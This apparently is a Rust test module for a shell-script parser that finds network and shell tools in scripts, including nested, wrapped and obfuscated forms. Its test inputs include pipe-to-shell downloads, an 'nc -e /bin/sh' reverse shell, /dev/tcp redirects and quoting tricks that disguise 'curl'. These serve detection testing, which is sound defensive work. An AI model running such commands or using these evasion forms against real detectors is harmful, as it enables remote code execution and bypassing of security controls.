    }

    fn offset(script: &str, needle: &str) -> usize {
        script.find(needle).unwrap_or_else(|| panic!("{needle:?} not in {script:?}"))
    }

    /// Checks that a word was copied unchanged from the script, where expected.
    fn assert_verbatim_at(script: &str, word: &MappedText, expected: &str) {
        assert_eq!(word.as_str(), expected);
        let span = word.source_span();
        assert_eq!(&script[span.clone()], expected, "span {span:?} of {expected:?}");
        assert_eq!(span.start, offset(script, expected), "{expected:?} is not at its first occurrence");
    }

    #[test]
    fn basename_keeps_what_follows_the_last_slash() {
        assert_eq!(basename("/usr/bin/curl"), "curl");
        assert_eq!(basename("curl"), "curl");
        assert_eq!(basename("./bin/"), "");
        assert_eq!(basename("/é/ü"), "ü");
        assert_eq!(basename("$(which curl)/x"), "$(which curl)/x");
    }

    #[test]
    fn pipeline_links_and_positions() {
        let script = "echo a | curl -k http://x | sh";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["echo", "curl", "sh"]);
        assert_eq!(parsed.commands[0].pipe_from, None);
        assert_eq!(parsed.commands[1].pipe_from, Some(0));
        assert_eq!(parsed.commands[2].pipe_from, Some(1));
        assert_eq!(words(&parsed.commands[1]), ["curl", "-k", "http://x"]);
        assert_eq!(parsed.commands[1].words[2].source_span(), 17..25);
        assert_eq!(parsed.commands[2].args(), &[]);
    }

    #[test]
    fn separators_split_commands() {
        let cases: &[(&str, &[&str])] = &[
            ("a; b && c || d & e\nf |& g", &["a", "b", "c", "d", "e", "f", "g"]),
            ("a;b&&c||d&e", &["a", "b", "c", "d", "e"]),
            ("a |\n  b ||\n c &&\n\n d", &["a", "b", "c", "d"]),
            (";; ; & a", &["a"]),
            ("! a | b", &["a", "b"]),
        ];
        for (script, expected) in cases {
            assert_eq!(programs(&parse(script)), *expected, "{script:?}");
        }
        let parsed = parse("a; b && c || d & e\nf |& g");
        assert!(parsed.commands[..5].iter().all(|c| c.pipe_from.is_none()));
        assert_eq!(parsed.commands[6].pipe_from, Some(5));
        assert_eq!(parse("a |\n  b").commands[1].pipe_from, Some(0));
    }

    #[test]
    fn comments_only_at_word_start() {
        let script = "echo a # curl x\n# wget y\ncurl#x z;#nc\necho b#c";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["echo", "curl#x", "echo"]);
        assert_eq!(words(&parsed.commands[0]), ["echo", "a"]);
        assert_eq!(words(&parsed.commands[2]), ["echo", "b#c"]);
    }

    #[test]
    fn quotes_are_removed_and_positions_kept() {
        let script = r#"echo 'a b' "c \"d\" \$e \\ \x $f" g\ h"#;
        let parsed = parse(script);
        let echo = &parsed.commands[0];
        assert_eq!(words(echo), ["echo", "a b", r#"c "d" $e \ \x $f"#, "g h"]);
        assert_verbatim_at(script, &echo.words[1], "a b");
        let quoted = &echo.words[2];
        // `\"` decodes to one byte that maps to the backslash.
        assert_eq!(quoted.source_offset(2), offset(script, r#"\"d"#));
        assert_eq!(quoted.source_offset(3), offset(script, r#"d\""#));
        assert_eq!(quoted.source_range(6..8), offset(script, r"\$e")..offset(script, r"\$e") + 3);
        assert_eq!(echo.words[3].source_offset(1), offset(script, r"\ h"));
        assert_eq!(echo.words[3].source_span(), offset(script, "g\\")..script.len());
        // Adjacent quoted parts join into one word.
        assert_eq!(words(&parse(r#"cu'r'"l" x'y'"z""#).commands[0]), ["curl", "xyz"]);
        assert_eq!(programs(&parse(r#"cu'r'"l" x"#)), ["curl"]);
    }

    #[test]
    fn ansi_c_quotes_are_decoded() {
        let script = r"$'\x63url' $'a\tb\'c' $'\u00e9\101' $'\q' $'\cA'";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["curl"]);
        assert_eq!(words(&parsed.commands[0]), ["curl", "a\tb'c", "éA", r"\q", "\u{1}"]);
        let curl = &parsed.commands[0].words[0];
        assert_eq!(curl.source_range(0..1), 2..6); // `\x63`
        assert_eq!(curl.source_offset(1), 6);
        assert_eq!(words(&parse(r"echo $'\xff'").commands[0])[1], "\u{fffd}");
    }

    #[test]
    fn line_continuations_join_words() {
        let script = "cu\\\nrl -s \\\n  http://x \\\r\n  -o y";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["curl"]);
        assert_eq!(words(&parsed.commands[0]), ["curl", "-s", "http://x", "-o", "y"]);
        assert_eq!(parsed.commands[0].words[0].source_offset(2), 4);
        assert_verbatim_at(script, &parsed.commands[0].words[2], "http://x");
    }

    #[test]
    fn command_substitutions_are_parsed_in_place() {
        let script = r#"echo $(curl x | sh) `wget y` "$(id)""#;
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["echo", "curl", "sh", "wget", "id"]);
        assert_eq!(words(&parsed.commands[0])[1..], ["$(curl x | sh)", "`wget y`", "$(id)"]);
        for command in &parsed.commands[1..] {
            assert_eq!(command.in_substitution, Some(0));
            assert_eq!(command.substitution, Some(SubstitutionKind::Command));
        }
        assert_eq!(parsed.commands[2].pipe_from, Some(1));
        assert_verbatim_at(script, &parsed.commands[3].words[1], "y");
        assert_verbatim_at(script, &parsed.commands[4].words[0], "id");
        assert_eq!(parsed.commands[0].in_substitution, None);

        // Escaped backquotes nest; positions still land in the script.
        let script = r"echo `echo \`id -u\``";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["echo", "echo", "id"]);
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_eq!(parsed.commands[2].in_substitution, Some(1));
        assert_verbatim_at(script, &parsed.commands[2].words[1], "-u");

        // A substitution in an assignment belongs to that (word-less) command.
        let parsed = parse("A=$(curl x) B=`wget y`");
        assert_eq!(programs(&parsed), ["", "curl", "wget"]);
        assert!(parsed.commands[0].words.is_empty());
        assert_eq!(parsed.commands[0].assignments.len(), 2);
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_eq!(parsed.commands[2].in_substitution, Some(0));

        // Nested substitutions link to their own parent.
        let parsed = parse("echo $(cat $(curl x))");
        assert_eq!(programs(&parsed), ["echo", "cat", "curl"]);
        assert_eq!(parsed.commands[2].in_substitution, Some(1));
    }

    #[test]
    fn process_substitutions() {
        let script = "bash <(curl -s http://x)";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["bash", "curl"]);
        assert_eq!(words(&parsed.commands[0]), ["bash", "<(curl -s http://x)"]);
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_eq!(parsed.commands[1].substitution, Some(SubstitutionKind::ProcessIn));
        assert_verbatim_at(script, &parsed.commands[1].words[2], "http://x");

        let parsed = parse("cat < <(wget y) | tee >(nc h 1) >/dev/null");
        assert_eq!(programs(&parsed), ["cat", "wget", "tee", "nc"]);
        let cat = &parsed.commands[0];
        assert_eq!(cat.redirects[0].op, RedirectOp::In);
        assert_eq!(cat.redirects[0].target.as_str(), "<(wget y)");
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_eq!(parsed.commands[2].pipe_from, Some(0));
        assert_eq!(parsed.commands[3].substitution, Some(SubstitutionKind::ProcessOut));
        assert_eq!(parsed.commands[3].in_substitution, Some(2));
        assert_eq!(parsed.commands[3].pipe_from, None);
    }

    #[test]
    fn subshells_and_groups_in_pipelines() {
        let parsed = parse("(cd /tmp && curl x) | sh; { wget y; } | bash");
        assert_eq!(programs(&parsed), ["cd", "curl", "sh", "wget", "bash"]);
        assert_eq!(parsed.commands[2].pipe_from, Some(1));
        assert_eq!(parsed.commands[4].pipe_from, Some(3));

        let parsed = parse("curl x | (cd /; sh)");
        assert_eq!(programs(&parsed), ["curl", "cd", "sh"]);
        assert_eq!(parsed.commands[1].pipe_from, Some(0));
        assert_eq!(parsed.commands[2].pipe_from, Some(0));

        let parsed = parse("curl x | while read l; do echo \"$l\" | sh; done");
        assert_eq!(programs(&parsed), ["curl", "read", "echo", "sh"]);
        assert_eq!(parsed.commands[1].pipe_from, Some(0));
        assert_eq!(parsed.commands[3].pipe_from, Some(2));
        // Substitution commands are not on the pipe.
        let parsed = parse("curl x | { echo $(id); sh; }");
        assert_eq!(programs(&parsed), ["curl", "echo", "id", "sh"]);
        assert_eq!(parsed.commands[2].pipe_from, None);
        assert_eq!(parsed.commands[3].pipe_from, Some(0));
        // `((…))` is arithmetic, `( (…) )` a subshell.
        assert_eq!(programs(&parse("((i++)); ((cd a; ls) ); echo")), ["cd", "ls", "echo"]);
    }

    #[test]
    fn compound_commands_are_flattened() {
        let cases: &[(&str, &[&str])] = &[
            ("if curl a; then wget b; elif nc c; then scp d e; else ftp f; fi", &["curl", "wget", "nc", "scp", "ftp"]),
            ("if ! [ -x y ]\nthen\n  a\nfi\nb", &["[", "a", "b"]),
            ("for x in $(ls) a b; do curl $x; done", &["ls", "curl"]),
            ("for x\ndo\n  a\ndone", &["a"]),
            ("for ((i=0; i<3; i++)); do echo $i; done", &["echo"]),
            ("select x in a b; do c; done", &["c"]),
            ("while true; do sleep 1; done; until false; do break; done", &["true", "sleep", "false", "break"]),
            ("case \"$1\" in\n  a|b) curl x;;\n  (c) wget y ;;\n  *) ;;\nesac; echo e", &["curl", "wget", "echo"]),
            ("case $x in a) b;& c) d;;& *) e; esac", &["b", "d", "e"]),
            ("echo $(case x in a) curl y;; esac) z", &["echo", "curl"]),
            ("echo if then fi done esac {", &["echo"]),
            ("if a; then (b; if c; then d; fi); fi", &["a", "b", "c", "d"]),
            ("while a; do { b | c; }; done > log", &["a", "b", "c", ""]),
            ("coproc nc -l 4444", &["nc"]),
        ];
        for (script, expected) in cases {
            assert_eq!(programs(&parse(script)), *expected, "{script:?}");
        }
        let parsed = parse("for x in $(ls); do :; done");
        assert_eq!(parsed.commands[0].in_substitution, None);
        assert_eq!(parsed.commands[0].substitution, Some(SubstitutionKind::Command));
    }

    #[test]
    fn function_definitions() {
        let script = concat!(
            "f() { curl x; }\n",
            "function g { wget y; }\n",
            "function h() (nc z 1)\n",
            "k () {\n  scp a b\n}\n",
            "f; g",
        );
        assert_eq!(programs(&parse(script)), ["curl", "wget", "nc", "scp", "f", "g"]);
    }

    #[test]
    fn heredocs() {
        let script = "cat <<EOF > /tmp/x\nhello $(id)\nEOF\ncurl x\n";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["cat", "id", "curl"]);
        let cat = &parsed.commands[0];
        assert_eq!(cat.redirects.len(), 2);
        assert_eq!(cat.redirects[0].op, RedirectOp::HereDoc { strip_tabs: false, quoted: false });
        assert_eq!(cat.redirects[0].target.as_str(), "hello $(id)\n");
        assert_eq!(cat.redirects[0].target.source_offset(0), offset(script, "hello"));
        assert_eq!(cat.redirects[0].op_span, 4..6);
        assert_eq!(cat.redirects[1].op, RedirectOp::Out);
        assert_eq!(cat.redirects[1].target.as_str(), "/tmp/x");
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_verbatim_at(script, &parsed.commands[1].words[0], "id");

        let script = "cat <<-END\n\tline1\n\t\tline2\n\tEND\necho after";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["cat", "echo"]);
        let body = &parsed.commands[0].redirects[0].target;
        assert_eq!(body.as_str(), "line1\nline2\n");
        assert_eq!(body.source_offset(6), offset(script, "line2"));

        let parsed = parse("cat <<'EOF'\n$(curl x)\nEOF\n");
        assert_eq!(programs(&parsed), ["cat"]);
        let redirect = &parsed.commands[0].redirects[0];
        assert_eq!(redirect.op, RedirectOp::HereDoc { strip_tabs: false, quoted: true });
        assert_eq!(redirect.target.as_str(), "$(curl x)\n");

        let parsed = parse("cat <<A; cat <<\"B\" | sh\na\nA\nb\nB\necho");
        assert_eq!(programs(&parsed), ["cat", "cat", "sh", "echo"]);
        assert_eq!(parsed.commands[0].redirects[0].target.as_str(), "a\n");
        assert_eq!(parsed.commands[1].redirects[0].target.as_str(), "b\n");
        assert_eq!(parsed.commands[2].pipe_from, Some(1));

        let parsed = parse("cat <<EOF\r\nabc\r\nEOF\r\nls");
        assert_eq!(programs(&parsed), ["cat", "ls"]);
        assert_eq!(parsed.commands[0].redirects[0].target.as_str(), "abc\r\n");
        assert_eq!(parse("cat <<EOF\nabc").commands[0].redirects[0].target.as_str(), "abc");
    }

    #[test]
    fn heredocs_and_herestrings_fed_to_shells_are_parsed() {
        let script = "sh <<EOF\ncurl http://x | bash\nEOF\necho";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["sh", "curl", "bash", "echo"]);
        assert_eq!(parsed.commands[1].nested_in, Some(0));
        assert_eq!(parsed.commands[1].nested_via, Some(NestedVia::HereDoc));
        assert_eq!(parsed.commands[2].pipe_from, Some(1));
        assert_eq!(parsed.commands[3].nested_in, None);
        assert_verbatim_at(script, &parsed.commands[1].words[1], "http://x");

        // The outer shell expands `$(…)` in an unquoted body: parsed once, not twice.
        let parsed = parse("bash <<EOF\necho $(curl y)\nEOF\n");
        assert_eq!(programs(&parsed), ["bash", "curl", "echo"]);
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_eq!(words(&parsed.commands[2]), ["echo", SUBST_PLACEHOLDER]);

        let script = "bash <<< 'wget -O- z | sh'";
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["bash", "wget", "sh"]);
        assert_eq!(parsed.commands[1].nested_via, Some(NestedVia::HereString));
        assert_verbatim_at(script, &parsed.commands[1].words[2], "z");
        // Not a shell reading stdin: the body is only data.
        assert_eq!(programs(&parse("bash x.sh <<EOF\ncurl x\nEOF")), ["bash"]);
        assert_eq!(programs(&parse("python3 <<EOF\ncurl x\nEOF")), ["python3"]);
    }

    #[test]
    fn test_commands() {
        let parsed = parse("[[ $a < $b && -f x || ( y ) ]] && curl z; [ -f x ] || wget y");
        assert_eq!(programs(&parsed), ["[[", "curl", "[", "wget"]);
        assert_eq!(words(&parsed.commands[0]), ["[[", "$a", "<", "$b", "&&", "-f", "x", "||", "(", "y", ")", "]]"]);
        assert!(parsed.commands[0].redirects.is_empty());
        assert_eq!(words(&parsed.commands[2]), ["[", "-f", "x", "]"]);
    }

    #[test]
    fn expansions_stay_literal() {
        let script = r#"echo ${A:-x} $B "${C}" ${D:-$(curl x)} $((1+2)) ${E//\}/a} $"loc""#;
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["echo", "curl"]);
        assert_eq!(
            words(&parsed.commands[0]),
            ["echo", "${A:-x}", "$B", "${C}", "${D:-$(curl x)}", "$((1+2))", r"${E//\}/a}", "loc"]
        );
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_verbatim_at(script, &parsed.commands[0].words[4], "${D:-$(curl x)}");

        // Substitutions inside arithmetic still run.
        let parsed = parse("echo $(( $(curl x | sh) + 1 )); (( $(id) > 0 ))");
        assert_eq!(programs(&parsed), ["echo", "curl", "sh", "id"]);
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_eq!(parsed.commands[2].pipe_from, Some(1));
        assert_eq!(parsed.commands[3].in_substitution, None);
        assert_eq!(parsed.commands[3].substitution, Some(SubstitutionKind::Command));
    }

    #[test]
    fn template_placeholders_are_not_commands() {
        let script = r#"printf "$(params.message)" > $(results.output.path); echo $(inputs.params['a-b'])"#;
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["printf", "echo"]);
        assert_eq!(parsed.commands[0].redirects[0].target.as_str(), "$(results.output.path)");
        // Something that only looks similar is still a command.
        assert_eq!(programs(&parse("echo $(paramsx.y) $(id)")), ["echo", "paramsx.y", "id"]);
    }

    #[test]
    fn assignments() {
        let script = r#"FOO=bar BAZ="q x" N+=1 A[2]=z curl http://x C=d"#;
        let parsed = parse(script);
        let curl = &parsed.commands[0];
        assert_eq!(curl.program, Some(0));
        assert_eq!(words(curl), ["curl", "http://x", "C=d"]);
        let pairs: Vec<(&str, &str)> = curl.assignments.iter().map(|a| (a.name.as_str(), a.value.as_str())).collect();
        assert_eq!(pairs, [("FOO", "bar"), ("BAZ", "q x"), ("N", "1"), ("A[2]", "z")]);
        assert_verbatim_at(script, &curl.assignments[1].value, "q x");
        assert_eq!(curl.assignments[1].name.source_span(), offset(script, "BAZ")..offset(script, "BAZ") + 3);
        // Quoted names are words, not assignments.
        assert_eq!(words(&parse(r#""A"=1 x"#).commands[0]), ["A=1", "x"]);

        let parsed = parse("arr=(a $(id) 'c d')\necho");
        assert_eq!(programs(&parsed), ["", "id", "echo"]);
        assert_eq!(parsed.commands[0].assignments[0].value.as_str(), "(a $(id) 'c d')");
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
    }

    #[test]
    fn redirections() {
        let script = "nc h 4444 > /dev/tcp/1.2.3.4/80 2>&1 &>x 3<>y <&0 >>z >|w 2>>e &>>f 10<g";
        let parsed = parse(script);
        assert_eq!(words(&parsed.commands[0]), ["nc", "h", "4444"]);
        let redirects: Vec<(Option<u32>, RedirectOp, &str)> =
            parsed.commands[0].redirects.iter().map(|r| (r.fd, r.op, r.target.as_str())).collect();
        assert_eq!(
            redirects,
            [
                (None, RedirectOp::Out, "/dev/tcp/1.2.3.4/80"),
                (Some(2), RedirectOp::DupOut, "1"),
                (None, RedirectOp::OutErr, "x"),
                (Some(3), RedirectOp::ReadWrite, "y"),
                (None, RedirectOp::DupIn, "0"),
                (None, RedirectOp::Append, "z"),
                (None, RedirectOp::Clobber, "w"),
                (Some(2), RedirectOp::Append, "e"),
                (None, RedirectOp::AppendOutErr, "f"),
                (Some(10), RedirectOp::In, "g"),
            ]
        );
        assert_verbatim_at(script, &parsed.commands[0].redirects[0].target, "/dev/tcp/1.2.3.4/80");
        assert_eq!(parsed.commands[0].redirects[0].op_span, 10..11);

        let parsed = parse("exec 3<>/dev/tcp/h/1; >/tmp/x; a2>b");
        assert_eq!(programs(&parsed), ["exec", "", "a2"]);
        assert_eq!(parsed.commands[0].redirects[0].target.as_str(), "/dev/tcp/h/1");
        assert_eq!(parsed.commands[2].redirects[0].fd, None);
    }

    #[test]
    fn wrappers_are_unwrapped() {
        let cases: &[(&str, &str, usize)] = &[
            ("/usr/bin/curl x", "curl", 0),
            ("env -i -- FOO=1 curl x", "curl", 4),
            ("env - FOO=1 curl x", "curl", 3),
            ("env -u HOME BAR=2 curl", "curl", 4),
            ("sudo -u root -E curl x", "curl", 4),
            ("sudo --user=root A=1 curl", "curl", 3),
            ("doas -u x wget", "wget", 3),
            ("timeout -s KILL 5 curl", "curl", 4),
            ("timeout --preserve-status 5m wget", "wget", 3),
            ("nice -n 10 curl", "curl", 3),
            ("nice -5 curl", "curl", 2),
            ("nohup nc -l 1 &", "nc", 1),
            ("setsid nc x 1", "nc", 1),
            ("exec -a x curl", "curl", 3),
            ("command curl", "curl", 1),
            ("command -p curl", "curl", 2),
            ("command -v curl", "command", 0),
            ("builtin echo", "echo", 1),
            ("time -p curl", "curl", 2),
            ("xargs -n1 -I{} curl {}", "curl", 3),
            ("xargs -0 -P 4 wget", "wget", 4),
            ("stdbuf -oL -e 0 curl", "curl", 4),
            ("busybox wget x", "wget", 1),
            ("busybox --list", "busybox", 0),
            ("chroot /mnt nc x", "nc", 2),
            ("sudo env A=1 timeout 5 nohup /bin/curl x", "curl", 6),
            ("env", "env", 0),
            ("sudo -i", "sudo", 0),
            ("exec", "exec", 0),
            ("timeout 5", "timeout", 0),
        ];
        for (script, program, index) in cases {
            let parsed = parse(script);
            let command = &parsed.commands[0];
            assert_eq!(command.program_name(), Some(*program), "{script:?}");
            assert_eq!(command.program, Some(*index), "{script:?}");
        }
    }

    #[test]
    fn nested_shell_scripts() {
        // (script, nested program, a word of it that must map verbatim)
        let cases: &[(&str, &str, &str)] = &[
            ("sh -c 'curl http://x | bash'", "curl", "http://x"),
            (r#"bash -lc "wget -q -O- http://y | sh""#, "wget", "http://y"),
            ("sh -ec 'nc -e /bin/sh h 4444'", "nc", "4444"),
            ("bash -o pipefail -c 'scp a W1:c'", "scp", "W1:c"),
            ("bash --norc -c -- 'ssh u@h'", "ssh", "u@h"),
            ("sudo -u root sh -c 'curl W2'", "curl", "W2"),
            ("xargs -I{} sh -c 'curl W3 {}'", "curl", "W3"),
            ("/bin/busybox sh -c 'wget W4'", "wget", "W4"),
            (r#"eval "curl W5""#, "curl", "W5"),
            ("eval curl W6", "curl", "W6"),
            ("su -c 'curl W7' root", "curl", "W7"),
            ("su - app -s /bin/sh -c 'wget W8'", "wget", "W8"),
            ("su --command='nc W9 1' root", "nc", "W9"),
            ("find . -name x -exec sh -c 'curl W10' \\;", "curl", "W10"),
            ("find / -exec wget W11 {} +", "wget", "W11"),
        ];
        for (script, program, word) in cases {
            let parsed = parse(script);
            let (index, command) = find_command(&parsed, program);
            assert!(index > 0, "{script:?}");
            let runner = command.nested_in.unwrap_or_else(|| panic!("{script:?} not nested"));
            assert!(runner < index, "{script:?}");
            let found = command.words.iter().find(|w| w.as_str() == *word);
            let found = found.unwrap_or_else(|| panic!("{word:?} not in {script:?}"));
            assert_verbatim_at(script, found, word);
        }

        let parsed = parse("sh -c 'curl http://x | bash'");
        assert_eq!(programs(&parsed), ["sh", "curl", "bash"]);
        assert_eq!(parsed.commands[1].nested_via, Some(NestedVia::ShellC));
        assert_eq!(parsed.commands[2].pipe_from, Some(1));
        assert_eq!(parsed.commands[2].nested_in, Some(0));

        // Escapes inside the nested script map to their bytes in the top-level script.
        let script = r#"sh -c "curl \"http://a b\" \$(wget W12)""#;
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["sh", "curl", "wget"]);
        assert_eq!(parsed.commands[1].words[1].as_str(), "http://a b");
        assert_eq!(parsed.commands[1].words[1].source_offset(0), offset(script, "http"));
        assert_eq!(parsed.commands[2].nested_in, Some(0));
        assert_eq!(parsed.commands[2].in_substitution, Some(1));
        assert_verbatim_at(script, &parsed.commands[2].words[1], "W12");

        // A substitution the outer shell expands is not parsed a second time.
        let parsed = parse(r#"sh -c "echo $(curl x)""#);
        assert_eq!(programs(&parsed), ["sh", "curl", "echo"]);
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_eq!(parsed.commands[1].nested_in, None);
        assert_eq!(parsed.commands[2].nested_in, Some(0));
        assert_eq!(words(&parsed.commands[2]), ["echo", SUBST_PLACEHOLDER]);
        assert_eq!(parsed.commands[2].words[1].source_span(), 12..21);

        let parsed = parse(r#"sh -c "bash -c 'curl q'""#);
        assert_eq!(programs(&parsed), ["sh", "bash", "curl"]);
        assert_eq!(parsed.commands[1].nested_in, Some(0));
        assert_eq!(parsed.commands[2].nested_in, Some(1));

        // Not scripts: a script file, `-c` without its word, python's -c.
        assert_eq!(programs(&parse("bash run.sh -c 'curl x'")), ["bash"]);
        assert_eq!(programs(&parse("sh -c")), ["sh"]);
        assert_eq!(programs(&parse("python3 -c 'curl x'")), ["python3"]);
    }

    #[test]
    fn near_misses() {
        let cases: &[(&str, &[&str])] = &[
            ("rsync -av a b:c", &["rsync"]),
            ("cat /etc/ssh/sshd_config", &["cat"]),
            ("echo function; myfunction() { true; }", &["echo", "true"]),
            ("sftp user@h", &["sftp"]),
            ("ncat x 1", &["ncat"]),
            ("echo curl | tee x", &["echo", "tee"]),
            ("echo 'sh -c curl'", &["echo"]),
            ("echo \"$(echo sh) -c x\"", &["echo", "echo"]),
            ("grep -r 'nc -l' .", &["grep"]),
            ("echo a=$(id)", &["echo", "id"]),
        ];
        for (script, expected) in cases {
            assert_eq!(programs(&parse(script)), *expected, "{script:?}");
        }
    }

    #[test]
    fn kfp_bootstrap_script() {
        let script = concat!(
            "\nif ! [ -x \"$(command -v pip)\" ]; then\n",
            "    python3 -m ensurepip || python3 -m ensurepip --user || ",
            "apt-get install python3-pip\n",
            "fi\n",
            "\n",
            "PIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet ",
            "--no-warn-script-location ",
            "'kfp==2.14.3' '--no-deps' 'typing-extensions>=3.7.4,<5; python_version<\"3.9\"' ",
            "&& \"$0\" \"$@\"\n",
        );
        let parsed = parse(script);
        assert_eq!(programs(&parsed), ["[", "command", "python3", "python3", "apt-get", "python3", "$0"]);
        assert_eq!(parsed.commands[1].in_substitution, Some(0));
        assert_eq!(words(&parsed.commands[1]), ["command", "-v", "pip"]);
        let pip = &parsed.commands[5];
        assert_eq!(pip.assignments[0].name.as_str(), "PIP_DISABLE_PIP_VERSION_CHECK");
        assert_eq!(
            words(pip),
            [
                "python3",
                "-m",
                "pip",
                "install",
                "--quiet",
                "--no-warn-script-location",
                "kfp==2.14.3",
                "--no-deps",
                "typing-extensions>=3.7.4,<5; python_version<\"3.9\"",
            ]
        );
        assert_verbatim_at(script, &pip.words[6], "kfp==2.14.3");
        assert_verbatim_at(script, &pip.words[8], "typing-extensions>=3.7.4,<5; python_version<\"3.9\"");
        assert_eq!(words(&parsed.commands[6]), ["$0", "$@"]);
        assert!(parsed.commands.iter().all(|c| c.pipe_from.is_none() && c.nested_in.is_none()));
    }

    #[test]
    fn crlf_line_ends() {
        let parsed = parse("curl x\r\nwget y\r\nif a\r\nthen b\r\nfi\r\n");
        assert_eq!(programs(&parsed), ["curl", "wget", "a", "b"]);
        assert_eq!(words(&parsed.commands[1]), ["wget", "y"]);
    }

    /// Hostile inputs: nothing panics, recursion stays bounded, everything terminates.
    #[test]
    fn deep_nesting_and_garbage_do_not_blow_up() {
        let mut inputs: Vec<String> = [
            "$(",
            "`",
            "\"$(",
            "(",
            "${",
            "if ",
            "{ ",
            "f() ",
            "a=(",
            "$((",
            "<(",
            "case x in ",
            "while ",
            "for x in $(",
            "function f ",
            "coproc ",
            "eval ",
            "find -exec ",
            "[[ (",
            "$'\\",
            "\\`",
            "<<",
            "cat <<EOF\n",
            "sh -c ",
            "$(( (",
            "((",
            "! ",
            "| ",
            "x=$(",
            "\"${x:-\"",
            "`\\`",
            "((((",
            "$($((",
        ]
        .iter()
        .map(|unit| unit.repeat(10_000))
        .collect();
        inputs.push("$(".repeat(10_000) + &")".repeat(10_000));
        inputs.push("(".repeat(10_000) + &")".repeat(10_000));
        inputs.push("sh -c \"".to_string() + &"\\\"".repeat(5000));
        // A heredoc fed to a shell in a heredoc fed to a shell …, 100 deep.
        let mut heredocs = String::new();
        for level in 0..100 {
            heredocs.push_str(&format!("sh <<E{level}\n"));
        }
        heredocs.push_str("curl x\n");
        for level in (0..100).rev() {
            heredocs.push_str(&format!("E{level}\n"));
        }
        inputs.push(heredocs.clone());
        inputs.push("\u{0}\u{ffff}\u{10ffff}é\\".repeat(1000));
        let handle = std::thread::Builder::new()
            .stack_size(1 << 20)
            .spawn(move || {
                for input in &inputs {
                    check_invariants(input, &parse(input));
                }
                parse(&heredocs)
            })
            .unwrap_or_else(|e| panic!("spawn: {e}"));
        let nested = handle.join().unwrap_or_else(|_| panic!("parser panicked"));
        // The analysis stops descending at MAX_DEPTH nested scripts, and says so.
        assert_eq!(nested.commands.len(), MAX_DEPTH + 1);
        assert!(nested.truncated);
        assert!(!parse("sh -c 'curl x'").truncated);
        assert!(parse(&("eval ".repeat(40) + "curl x")).truncated);
    }

    /// What must hold for any input.
    fn check_invariants(script: &str, parsed: &Script) {
        let in_script = |offset: usize| offset <= script.len() && script.is_char_boundary(offset);
        for (index, command) in parsed.commands.iter().enumerate() {
            for link in [command.pipe_from, command.in_substitution, command.nested_in] {
                assert!(link.is_none_or(|link| link < index), "{script:?}: link {link:?} at {index}");
            }
            assert_eq!(command.program.is_some(), !command.words.is_empty(), "{script:?}");
            assert!(command.program.is_none_or(|p| p < command.words.len()));
            assert_eq!(command.nested_in.is_some(), command.nested_via.is_some());
            assert!(command.in_substitution.is_none() || command.substitution.is_some());
            let texts = command
                .words
                .iter()
                .chain(command.assignments.iter().flat_map(|a| [&a.name, &a.value]))
                .chain(command.redirects.iter().map(|r| &r.target));
            for text in texts {
                let span = text.source_span();
                assert!(in_script(span.start) && in_script(span.end), "{script:?}: {span:?}");
                for (i, _) in text.as_str().char_indices() {
                    assert!(in_script(text.source_offset(i)), "{script:?}");
                }
            }
            for redirect in &command.redirects {
                assert!(in_script(redirect.op_span.start) && in_script(redirect.op_span.end));
            }
        }
    }

    /// A small dependency-free fuzzer: random sequences of shell-ish tokens.
    #[test]
    fn random_token_soup_keeps_invariants() {
        const TOKENS: &[&str] = &[
            "a", "curl", " ", " ", "\n", ";", "|", "&", "(", ")", "{", "}", "$", "`", "'", "\"", "\\", "<", ">", "#",
            "=", "if", "then", "fi", "do", "done", "case", "esac", "in", "for", "while", "sh", "-c", "$(", "${", "<<",
            "EOF", "é", "\t", "\r", "[[", "]]", "eval", "$'", "\\x41", "((", "))", "!", "function", "f()", "*", "<(",
            "2>", "&>", "EOF\n", ";;", "su", "-exec", "find", "x=", "\\\n",
        ];
        let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = move |bound: usize| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state % bound as u64) as usize
        };
        for _ in 0..5000 {
            let len = next(60);
            let script: String = (0..len).map(|_| TOKENS[next(TOKENS.len())]).collect();
            check_invariants(&script, &parse(&script));
        }
    }
}
